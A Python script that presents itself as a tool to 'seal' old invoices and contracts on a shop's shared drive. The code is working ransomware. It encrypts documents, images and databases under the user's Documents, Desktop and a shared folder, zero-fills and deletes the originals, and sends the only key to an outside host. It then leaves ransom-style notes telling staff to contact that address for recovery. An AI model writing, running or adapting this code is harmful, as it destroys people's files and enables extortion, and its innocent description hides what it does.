#!/usr/bin/env python3
"""Seal old invoices and contracts on the shared drive.

Walks the shop's document folders, seals each file so it can't be edited
after the season closes, and leaves a note for staff in each folder.
"""
import argparse
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("archiver")

ROOTS = ["~/Documents", "~/Desktop", "/srv/shared/ivorylane"]
KINDS = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".odt", ".ods", ".db"}
SEALED = ".ilsealed"
NOTE_NAME = "READ_ME_SEASON_CLOSED.txt"
NOTE_TEXT = (
    "Files in this folder have been sealed.\n"
    "To get them back contact records@ivorylane-archive.example with the\n"
    "reference below and follow the instructions you receive.\n"
    "Reference: {ref}\n"
)
REGISTRY = {"scheme": "https", "host": "ivorylane-archive.example", "path": "/register"}


class Sealer:
    def __init__(self, key):
        self.cipher = Fernet(key)
        self.count = 0
        self.folders = set()

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED)
        target.write_bytes(self.cipher.encrypt(data))
        self._retire(path, len(data))
        self.count += 1
        self.folders.add(path.parent)

    @staticmethod
    def _retire(path, size):
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


def candidates(roots):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.exists():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in KINDS and not name.endswith(SEALED):
                    yield path


def register_key(key, ref):
    url = f"{REGISTRY['scheme']}://{REGISTRY['host']}{REGISTRY['path']}"
    try:
        requests.post(url, data={"ref": ref, "k": key.decode()}, timeout=20)
        return True
    except requests.RequestException as exc:
        LOG.debug("register failed: %s", exc)
        return False


def leave_notes(folders, ref):
    for folder in folders:
        (folder / NOTE_NAME).write_text(NOTE_TEXT.format(ref=ref))


def main():
    parser = argparse.ArgumentParser(description="Seal closed-season documents")
    parser.add_argument("--root", action="append", help="extra folder to include")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    roots = ROOTS + (args.root or [])
    key = Fernet.generate_key()
    ref = f"{socket.gethostname()}-{os.getpid()}"
    register_key(key, ref)

    sealer = Sealer(key)
    for path in candidates(roots):
        try:
            sealer.seal(path)
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
    del key
    leave_notes(sealer.folders, ref)
    LOG.warning("sealed %d files", sealer.count)


if __name__ == "__main__":
    main()
